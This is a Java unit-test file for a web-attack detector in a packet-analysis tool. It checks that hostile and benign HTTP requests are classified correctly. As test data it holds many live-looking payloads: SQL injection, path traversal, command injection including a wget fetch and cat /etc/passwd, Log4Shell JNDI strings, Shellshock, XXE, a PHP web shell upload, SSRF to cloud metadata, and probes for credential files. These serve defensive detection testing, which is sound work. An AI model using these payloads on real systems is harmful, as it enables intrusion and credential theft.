package io.aegispcap.analysis.detection.web;

import static org.assertj.core.api.Assertions.assertThat;

import io.aegispcap.analysis.detection.Detector;
import io.aegispcap.analysis.detection.DetectorContract;
import io.aegispcap.analysis.detection.Finding;
import io.aegispcap.analysis.detection.Said;
import io.aegispcap.analysis.detection.Scene;
import io.aegispcap.analysis.detection.Severity;
import io.aegispcap.capture.protocol.http.HttpContent;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/// See [DetectorContract] for what it also shows.
class WebAttackTests extends DetectorContract {
  private static final String CLIENT = "10.0.0.5";
  private static final String SERVER = "198.51.100.7";
  private static final String FORM = "application/x-www-form-urlencoded";

  @Override
  protected Detector detector() {
    return new WebAttack();
  }

  @Override
  protected Scene hostile() {
    return requested("/item.php?id=1%20UNION%20SELECT%20password%20FROM%20users");
  }

  @Override
  protected Scene harmless() {
    return requested("/search?q=union+square+selection&page=2#top");
  }

  private static Scene requested(String uri) {
    Scene scene = new Scene();
    return scene.said(CLIENT, SERVER, 80, Said.get(scene.now(), "example.org", uri, "browser"));
  }

  private static Scene posted(String type, String body) {
    return answered("POST", "/a", type, body, 200, "<html>thanks</html>");
  }

  private static Scene answered(
      String method, String uri, String type, String body, int status, String answer) {
    return new Scene()
        .said(CLIENT, SERVER, 80, Said.sent(Scene.START, method, uri, type, body, status, answer));
  }

  private static Scene withField(String name, String value) {
    return new Scene()
        .said(
            CLIENT,
            SERVER,
            80,
            Said.sent(
                Scene.START,
                "GET",
                "/",
                "",
                "",
                200,
                "ok",
                List.of(new HttpContent.Field(name, value))));
  }

  private Finding only(Scene scene) {
    List<Finding> findings = scene.shownTo(detector());
    assertThat(findings).hasSize(1);
    return findings.getFirst();
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = ' ',
      value = {
        "/a?x=%3Cscript%3Ealert(1)%3C/script%3E script",
        "/a?f=..%2f..%2f..%2fetc%2fpasswd traversal",
        "/a?f=%252e%252e%252f%252e%252e%252fetc%252fpasswd traversal",
        "/a?f=..%c0%af..%c0%afetc%c0%afpasswd traversal",
        "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh traversal",
        "/scripts/..%u2215..%u2215..%u2215winnt traversal",
        "/a?c=1;wget%20http://x/y command",
        "/a?c=127.0.0.1%7Cid command",
        "/a?u=%24%7Bjndi:ldap://x/y%7D JNDI",
        "/a?u=%24%7B%24%7Blower:j%7Dndi:%24%7B::-l%7D%24%7B::-d%7Dap://x/y%7D JNDI",
        "/a?id=1%27%20or%20%271%27=%271 SQL",
        "/a?id=1+AND+7134%3D8821 SQL",
        "/a?id=1%2F**%2FUnIoN%2F**%2FSeLeCt%2F**%2F1,2,3 SQL",
        "/a?id=-1+union+all+select+null,null--+- SQL",
        "/a?id=1;WAITFOR%20DELAY%20'0:0:5'-- SQL",
        "/a?id=(SELECT%20(CASE%20WHEN%20(1=1)%20THEN%201%20END)) SQL",
        "/a?user[$ne]=x SQL",
        "/a?page=php://filter/convert.base64-encode/resource=index inclusion",
        "/a?name=%7B%7B7*7%7D%7D template",
        "/a?class.module.classLoader.resources.context=x loader",
        "/a?url=http://169.254.169.254/latest/meta-data/ internal",
        "/index.php?s=/index/think%5Capp/invokefunction&function=call_user_func_array command"
      })
  void knowsEachKindInTargets(String uri, String word) {
    assertThat(only(requested(uri)).sentence()).contains(word);
  }

  @Test
  void looksIntoFormsOfAllSorts() {
    String xml =
        "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>";
    String part =
        String.join(
            "\r\n",
            "--b",
            "Content-Disposition: form-data; name=\"f\"; filename=\"a.php\"",
            "",
            "<?php system($_GET['c']); ?>",
            "--b--");
    assertThat(only(posted(FORM, "user=admin%27--+&pass=x")).sentence()).contains("SQL");
    assertThat(only(posted("application/json", "{\"user\": \"x' or 1=1 -- \"}")).sentence())
        .contains("SQL");
    assertThat(only(posted("application/xml", xml)).sentence()).contains("XML entity");
    assertThat(only(posted("multipart/form-data; boundary=b", part)).sentence()).contains("upload");
    assertThat(only(posted(FORM, "o=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwAC")).sentence())
        .contains("serialised");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<script src=\"/style.js\">",
        "<script type='text/javascript' src='js/app.min.js'></script>",
        "<script src=../lib/a.js />"
      })
  void takesAScriptOfThePagesOwnForAHint(String tag) {
    assertThat(only(letter("My page reads " + tag + ": is that right?")).severity())
        .isEqualTo(Severity.INFO);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<script src=//x.example/a.js>",
        "<script src=https://x.example/a.js>",
        "<script src=data:,alert%281%29>",
        "<script src=/\\x.example/a.js>",
        "<script src=/a?callback=f>",
        "<script src=/a.js x=y>",
        "<script/src=//x.example>",
        "<script src=/a.js></script><script>f()</script>"
      })
  void takesAScriptFromElsewhereForAnAttack(String tag) {
    assertThat(only(letter("Nice page " + tag)).severity()).isEqualTo(Severity.LOW);
  }

  private Scene letter(String text) {
    return posted(FORM, "text=" + URLEncoder.encode(text, StandardCharsets.UTF_8));
  }

  @Test
  void undoesBase64OfWholeValues() {
    String hidden =
        Base64.getEncoder()
            .encodeToString(";cat /etc/passwd; uname -a".getBytes(StandardCharsets.US_ASCII));
    assertThat(only(requested("/a?q=" + hidden.replace("=", "%3D"))).sentence()).contains("Base64");
  }

  @Test
  void looksIntoHeaderFields() {
    assertThat(only(withField("x-api-version", "${${::-j}${::-n}di:ldap://x/a}")).sentence())
        .contains("JNDI")
        .contains("header x-api-version");
    assertThat(only(withField("user-agent", "() { :;}; /bin/bash -c id")).severity())
        .isEqualTo(Severity.MEDIUM);
  }

  @Test
  void gradesOneAttackLowAndManyMedium() {
    String uri = "/a?id=1%20UNION%20SELECT%20password%20FROM%20users";
    assertThat(only(requested(uri)).severity()).isEqualTo(Severity.LOW);
    Scene scene = new Scene();
    for (int i = 0; i < WebAttack.MANY_STRONG; i++) {
      scene.said(CLIENT, SERVER, 80, Said.get(scene.now(), "example.org", uri + i, "x"));
    }
    assertThat(only(scene).severity()).isEqualTo(Severity.MEDIUM);
  }

  @Test
  void gradesAnAnswerThatShowsSuccessHigh() {
    String attack = "/a?c=1;cat%20/etc/passwd";
    String passwd = "<pre>root:x:0:0:root:/root:/bin/bash\n</pre>";
    assertThat(only(answered("GET", attack, "", "", 200, passwd)).severity())
        .isEqualTo(Severity.HIGH);
    assertThat(only(answered("GET", attack, "", "", 404, passwd)).severity())
        .isEqualTo(Severity.MEDIUM);
    assertThat(
            only(answered(
                    "GET",
                    "/a?id=1%27%20and%20extractvalue(1,2)--%20",
                    "",
                    "",
                    500,
                    "XPATH syntax error: '~5.7'"))
                .sentence())
        .contains("error of the database");
  }

  @Test
  void doesNotTakeAnEchoForSuccess() {
    assertThat(
            only(answered(
                    "POST",
                    "/a",
                    FORM,
                    "c=;cat /etc/passwd root:x:0:0:",
                    200,
                    "you said root:x:0:0:"))
                .severity())
        .isNotEqualTo(Severity.HIGH);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "/",
        "/index.html?lang=en&x=%20",
        "/or/1/2",
        "/shop?name=o%27neil&sort=desc",
        "*",
        "/a;v=1/b",
        "/shop?q=select+all+from+this+brand",
        "/shop?q=union+select+committee+report",
        "/docs?q=how+to+drop+a+table+or+delete+rows",
        "/q?where=STATE%3D%27CA%27+and+POP%3E1000",
        "/odata?$filter=Name%20eq%20%27x%27%20and%20Age%20gt%2030",
        "/login?redirect_uri=http://localhost:3000/callback",
        "/t?js=%24(document).ready&x=%7B%22a%22:%5B1,2%5D%7D",
        "/a?expr=price%20%3C%20100%20and%20stock%20%3E%200",
        "/pixel?u=https%3A%2F%2Fexample.org%2Fa%3Fb%3Dc%26d%3D%7Be%7D"
      })
  void takesUsualTargetsForHarmless(String uri) {
    assertThat(requested(uri).shownTo(detector())).as(uri).isEmpty();
  }

  @Test
  void takesWhatPeopleWriteForHarmless() {
    String article =
        "title=What+is+XSS&text="
            + "Cross-site+scripting+puts+%3Cscript%3Ealert(1)%3C/script%3E+into+a+page.+".repeat(8);
    assertThat(posted(FORM, article).shownTo(detector())).isEmpty();
    assertThat(
            posted(
                    "application/json",
                    "{\"query\": \"select name from items where shop = 'x' or state = 'y'\"}")
                .shownTo(detector()))
        .isEmpty();
    assertThat(
            posted("application/json", "{\"a\": [1, 2], \"text\": \"rock 'n' roll; or not\"}")
                .shownTo(detector()))
        .isEmpty();
    assertThat(
            withField("cookie", "s=eyJhbGciOiJIUzI1NiJ9.e30.Zm9v%3D; _ga=GA1.2.3|x|y; t='a'")
                .shownTo(detector()))
        .isEmpty();
  }

  @Test
  void isLowForManyHiddenFiles() {
    Scene scene = new Scene();
    String[] hidden = {"/.env", "/.git/config", "/.git/head", "/.aws/credentials", "/.ssh/id_rsa"};
    for (String uri : hidden) {
      scene.said(CLIENT, SERVER, 80, Said.get(scene.now(), "example.org", uri, "browser")).after(1);
    }
    assertThat(scene.shownTo(detector()).getFirst().severity()).isEqualTo(Severity.LOW);
  }
}
